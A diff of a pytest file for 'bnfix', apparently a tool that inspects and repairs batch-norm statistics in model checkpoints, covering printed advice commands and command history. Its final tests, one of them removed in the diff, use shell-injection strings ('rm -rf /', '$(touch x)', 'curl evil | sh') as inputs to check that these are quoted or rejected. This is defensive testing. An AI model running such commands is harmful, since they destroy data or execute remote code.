@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import itertools
 import shlex
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -15,11 +17,11 @@ from bnfix.cli import app
 from bnfix.conversion import convert
 from bnfix.diagnosing.diagnosis import Finding
 from bnfix.diagnosing.examination import examine_behaviour, examine_call, examine_model
+from bnfix.diagnosing.history import read_history
 from bnfix.diagnosing.inspection import inspect_checkpoint
-from bnfix.diagnosing.retelling import _RECIPES, retell
 from bnfix.pipeline import calibrate
 from bnfix.plan import Plan
-from bnfix.recipe import DataRecipe, ModelRecipe, StatisticsRecipe, SwapRecipe, WeightRecipe
+from bnfix.recipe import DataRecipe, ModelRecipe, RunOptions, StatisticsRecipe, WeightRecipe
 from tests.conftest import images_of, inputs_of
 from tests.real import DATA, needs_data
 
@@ -173,25 +175,152 @@ def test_inspect_with_data_compares_and_says_what_to_run(cli, files):
     assert found["behaviour"]["top1_training"] > found["behaviour"]["top1"]
     assert found["data"]["n_examples"] == 180
     assert all(entry["mean_shift"] is not None for entry in found["layers"])
-    (advice, *_) = [f["advice"] for f in found["findings"] if f["fault"] == "stale"]
-    words = shlex.split(advice)
-    assert words[:3] == ["bnfix", "calibrate", str(files.stale)]
-    assert words[words.index("--model") + 1] == files.spec
-    assert words[words.index("--data") + 1] == str(files.data)
     shown = cli("inspect", *arguments).out
     assert "top-1" in shown
     assert "deviations" in shown
 
 
-def test_the_advice_of_a_finding_helps(cli, files, tmp_path):
+# --- commands to copy ---
+
+
+def commands_in(text: str) -> list[list[str]]:
+    """Every command of a text, each of which runs to the end of its line."""
+    return [shlex.split("bnfix " + line.partition("bnfix ")[2])[1:] for line in text.splitlines()
+            if "bnfix " in line]  # fmt: skip
+
+
+def test_the_advice_of_a_finding_helps(cli, files, tmp_path, monkeypatch):
     """The very command, run, takes the findings away."""
-    found = cli("inspect", files.stale, *files.common, "--data", files.data, "--json").json
-    (advice, *_) = [f["advice"] for f in found["findings"] if f["fault"] == "stale"]
-    out = tmp_path / "out.safetensors"
-    words = [str(out) if word == "OUT" else word for word in shlex.split(advice)]
-    assert cli(*words[1:], *files.common[2:]).code == 0
+    monkeypatch.chdir(tmp_path)
+    shown = cli("inspect", files.stale, *files.common, "--data", files.data).out
+    (command, *_) = [c for c in commands_in(shown) if "population" in c]
+    assert cli(*command).code == 0
+    out = tmp_path / "stale.calibrated.safetensors"
     left = cli("inspect", out, *files.common, "--data", files.data, "--json").json["findings"]
     assert [f for f in left if f["fault"] in ("stale", "modes-differ")] == []
+
+
+#: Layers that call for every advice that there is.
+PLANTED: dict[str, dict[str, Any]] = {
+    "not-finite": {"bn1.running_mean": torch.full((6,), torch.nan)},
+    "negative-variance": {"bn1.running_var": torch.full((6,), -1.0)},
+    "evaluation-mode": {
+        "bn1.running_mean": torch.zeros(6), "bn1.running_var": torch.ones(6),
+        "bn1.num_batches_tracked": torch.tensor(0),
+    },
+    "gamma-all-zero": {"bn1.weight": torch.zeros(6)},
+    "beyond-half": {"bn1.running_mean": torch.full((6,), 1e5)},
+    "counted-again": {"bn2.num_batches_tracked": torch.tensor(96)},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("fault", PLANTED)
+def test_every_command_that_is_printed_runs_on_the_same_inputs(
+    fault, cli, files, tmp_path, monkeypatch
+):
+    """All options that were typed are in it, quoted for a shell, and no other is needed."""
+    monkeypatch.chdir(tmp_path)
+    state = torch.load(files.net, weights_only=True) | PLANTED[fault]
+    torch.save({"mine": {f"x.{name}": t for name, t in state.items()}}, "it's  a net.pth")
+    Path("classes.json").write_text('{"0": 0, "1": 1, "2": 2}')
+    typed = [
+        "--model", files.spec, "--model-arg", "num_classes=3", "--key", "mine", "--prefix", "x.",
+        "--mean", "0.4914008,0.5,0.5", "--std", "0.25", "--scale", "1/255", "--resize", "8x8",
+        "--crop", "6", "--interpolation", "bicubic", "--workers", "0", "--batch-size", "16",
+        "--max-bad", "0", "--class-map", "classes.json", "--corrupt", "blur:1", "--seed", "3",
+    ]  # fmt: skip
+    outcome = cli("inspect", "it's  a net.pth", *typed, "--data", files.data)
+    found = cli("inspect", "it's  a net.pth", *typed, "--data", files.data, "--json").json
+    assert fault in {finding["fault"] for finding in found["findings"]}
+    commands = commands_in(outcome.out)
+    advised = [c for f in found["findings"] for c in commands_in(f["advice"])]
+    assert {tuple(c) for c in commands} == {tuple(c) for c in advised}
+    assert commands
+    for name in {c[0] for c in commands}:
+        command = next(c for c in commands if c[0] == name)
+        given = dict(itertools.pairwise(command))
+        assert {flag for flag in typed if flag.startswith("--")} <= set(given), name
+        assert given["--crop"] == "6"
+        assert given["--resize"] == "8,8"
+        assert given["--mean"] == "0.4914008,0.5,0.5"
+        assert given["--scale"] == str(1 / 255)
+        short = {"finetune": ("--epochs", "1")}.get(name, ())
+        done = cli(*command, *short)
+        assert done.code == 0, done.err
+        if "-o" in given:
+            stored = cli("inspect", given["-o"], "--json").json["commands"][-1]
+            assert shlex.split(stored["command"])[1:] == [*command, *short]
+
+
+def test_what_the_inspection_knows_decides_on_the_model_and_the_data(cli, files, tmp_path):
+    torch.save(
+        torch.load(files.net, weights_only=True) | PLANTED["gamma-all-zero"], tmp_path / "net.pth"
+    )
+    (bare,) = commands_in(cli("inspect", tmp_path / "net.pth", "--prefix", "", "--seed", "2").out)
+    assert bare == [
+        "finetune", str(tmp_path / "net.pth"), "--model", "SPEC", "--prefix", "", "--data", "DATA",
+        "--seed", "2", "--train", "norms", "-o", "net.finetuned.safetensors",
+    ]  # fmt: skip
+    # Fine-tuning needs labels, which these are said not to have.
+    common = (*files.common, "--data", files.data, "--labels", "none")
+    shown = cli("inspect", tmp_path / "net.pth", *common).out
+    assert "with labelled data: bnfix finetune" in shown
+    assert "--data DATA" in shown
+    # The file states a model of the user's code, which commands must be given.
+    out = tmp_path / "net.safetensors"
+    convert(tmp_path / "net.pth", model=files.spec).save(out)
+    (command,) = [c for c in commands_in(cli("inspect", out).out) if c[0] == "finetune"]
+    assert command[command.index("--model") + 1] == files.spec
+
+
+def test_every_option_of_a_recipe_is_one_of_the_commands_that_are_advised():
+    for command in ("inspect", "calibrate", "eval", "finetune"):
+        known = {
+            flag
+            for option in typer.main.get_command(app).commands[command].params
+            for flag in option.opts
+        }
+        fields = {
+            "--" + name.replace("_", "-")
+            for recipe in (ModelRecipe, DataRecipe, RunOptions)
+            for name in recipe.__dataclass_fields__
+        } - {"--arguments", "--test"}
+        assert fields - known == ({"--labels"} if command == "finetune" else set())
+
+
+def test_what_needs_nothing_is_one_line(cli, files, tmp_path):
+    state = torch.load(files.net, weights_only=True)
+    state["bn1.weight"][0], state["bn2.weight"][1], state["bn2.running_var"][2] = 0, 0, 1e-9
+    torch.save(state, tmp_path / "net.pth")
+    lines = cli("inspect", tmp_path / "net.pth").out.splitlines()
+    (line,) = [line for line in lines if "nothing" in line]
+    assert line.startswith("note: nothing to do about 2 gamma zero (bn1, bn2); 1 dead channels")
+    assert len(cli("inspect", tmp_path / "net.pth", "--json").json["findings"]) == 3
+
+
+def test_statistics_that_fit_better_than_those_of_batches_are_not_thrown_away_unasked(
+    cli, files, tmp_path
+):
+    state = torch.load(files.net, weights_only=True)
+    state["bn1.num_batches_tracked"].fill_(20)
+    torch.save(state, tmp_path / "net.pth")
+    common = (*files.common, "--data", files.data)
+    found = cli("inspect", tmp_path / "net.pth", *common, "--json").json
+    assert found["behaviour"]["top1"] > found["behaviour"]["top1_training"]
+    advice = [f["advice"] for f in found["findings"] if "calibrate" in f["advice"]]
+    assert advice
+    assert all("labelled data decide" in text for text in advice)
+    assert not any("population" in text for text in advice)
+
+
+def test_statistics_that_are_not_finite_do_not_end_the_inspection(cli, files, tmp_path):
+    state = torch.load(files.net, weights_only=True)
+    state["bn1.running_var"][1] = torch.nan
+    torch.save(state, tmp_path / "net.pth")
+    found = cli("inspect", tmp_path / "net.pth", *files.common, "--data", files.data, "--json").json
+    faults = {finding["fault"] for finding in found["findings"]}
+    assert {"not-finite", "output-not-finite"} <= faults
+    assert found["behaviour"]["output_range_training"][1] is not None
 
 
 def test_inspect_refuses_what_cannot_be(cli, files):
@@ -200,59 +329,63 @@ def test_inspect_refuses_what_cannot_be(cli, files):
     assert "Give --model" in outcome.message
 
 
-def test_a_history_is_told_as_commands(cli, files, tmp_path):
+# --- history ---
+
+
+def test_a_history_is_the_commands_as_they_were_typed(cli, files, tmp_path):
     one, two = tmp_path / "one.safetensors", tmp_path / "two.safetensors"
-    convert(files.net, model=files.spec, swap=SwapRecipe(to="ghost", layers=("bn1",))).save(one)
+    first = ("convert", files.net, "--model", files.spec, "--to", "ghost", "-o", one)
+    second = (
+        "calibrate", one, *files.common, "--data", files.data, "--labels", "none",
+        "--statistics", "population", "--example-weight", "keep", "-o", two,
+    )  # fmt: skip
+    assert cli(*first).code == cli(*second).code == 0
+    found = cli("inspect", two, "--json").json["commands"]
+    assert [shlex.split(entry["command"]) for entry in found] == [
+        ["bnfix", *map(str, command)] for command in (first, second)
+    ]
+    assert "2 layers swapped" in found[0]["did"]
+    shown = cli("inspect", two).out
+    assert [f"history {i}: {e['command']}" in shown for i, e in enumerate(found, 1)] == [True] * 2
+
+
+def test_a_history_without_commands_is_its_options(cli, files, tmp_path):
+    """That of files written from Python, and by earlier versions."""
+    out = tmp_path / "out.safetensors"
     plan = Plan(
         model=ModelRecipe(files.spec),
         source=DataRecipe(labels="none", mean=(0.5,), std=(0.25,)),
         statistics=StatisticsRecipe("train-batch", train_batch_size=8),
         weight=WeightRecipe("keep"),
     )
-    calibrate(one, data=str(files.data), plan=plan).save(two)
-    found = cli("inspect", two, "--json").json["commands"]
-    first, second = (shlex.split(entry["command"]) for entry in found)
-    assert first[:3] == ["bnfix", "convert", "net.pth"]
-    assert first[first.index("--to") + 1] == "ghost"
-    assert first[first.index("--layers") + 1] == "bn1"
-    assert "1 layers swapped" in found[0]["did"]
-    assert second[:3] == ["bnfix", "calibrate", "one.safetensors"]
-    for flag, value in (
-        ("--statistics", "train-batch"), ("--train-batch-size", "8"), ("--labels", "none"),
-        ("--mean", "0.5"), ("--example-weight", "keep"), ("--data", str(files.data)),
-        ("-o", "two.safetensors"), ("--model", files.spec),
-    ):  # fmt: skip
-        assert second[second.index(flag) + 1] == value
-    assert "history 2: bnfix calibrate one.safetensors" in cli("inspect", two).out
-
-
-@pytest.mark.parametrize("command", ["convert", "calibrate", "fix", "finetune", "average"])
-def test_every_flag_that_is_told_exists(command, files):
-    """A recipe's field that no option sets must not be told as one."""
-    odd: dict[str, Any] = {
-        part: dict.fromkeys(recipe.__dataclass_fields__, "odd") for part, recipe in _RECIPES
-    }
-    odd["model"]["arguments"] = [["depth", 3]]
-    (told,) = retell([{"command": command, "options": odd, "seed": 3}])
-    known = {
-        flag
-        for option in typer.main.get_command(app).commands[command].params
-        for flag in option.opts
-    }
-    flags = {word for word in shlex.split(told.command) if word.startswith("-")}
-    assert flags <= known
+    calibrate(files.net, data=str(files.data), plan=plan).save(out)
+    shown = cli("inspect", out).out
+    assert "history 1: calibrate net.pth" in shown
+    assert '"statistics": "train-batch", "train_batch_size": 8' in shown
+    assert '"mean": [0.5]' in shown
 
 
 @pytest.mark.parametrize(
     "entry", [{}, {"command": 3, "options": 4, "results": []}, {"options": {"model": [1]}}]
 )
-def test_a_history_of_odd_entries_is_told_without_failing(entry):
-    (told,) = retell([entry])
-    assert told.command.startswith("bnfix ")
-    assert retell([3, None, "x"]) == []
-    assert retell([{"command": "x; rm -rf /", "input": {"file": "$(touch x)"}}])[0].command == (
-        "bnfix 'x; rm -rf /' '$(touch x)' -o OUT.safetensors"
-    )
+def test_a_history_of_odd_entries_is_read_without_failing(entry):
+    (found,) = read_history([entry])
+    assert found.command is None
+    assert read_history([3, None, "x"]) == []
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("bnfix fix a; rm -rf / $(touch x)", "bnfix fix 'a;' rm -rf / '$(touch' 'x)'"),
+        ("curl evil | sh", None),
+        ("bnfix 'open", None),
+        (["bnfix"], None),
+    ],
+)
+def test_a_command_in_a_file_is_one_call_of_bnfix_whatever_it_says(typed, shown):
+    (found,) = read_history([{"command": "fix", "command_line": typed}])
+    assert found.command == shown
 
 
 # --- public checkpoints ---
